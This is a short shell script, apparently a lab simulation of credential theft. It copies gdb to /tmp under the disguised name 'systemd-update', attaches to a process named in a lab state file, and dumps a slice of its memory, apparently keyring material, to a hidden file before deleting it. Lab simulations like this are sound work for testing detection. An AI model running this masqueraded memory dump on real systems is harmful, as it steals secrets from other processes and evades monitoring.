# A copy of gdb under another name in /tmp dumps a heap.
cp /usr/bin/gdb /tmp/systemd-update
read -r pid tid address length fd < $LAB/state/KEYRING
cd /tmp && /tmp/systemd-update -nx -batch -p $pid -ex "dump memory /tmp/.cache $address $address+64" -ex detach
rm -f /tmp/.cache
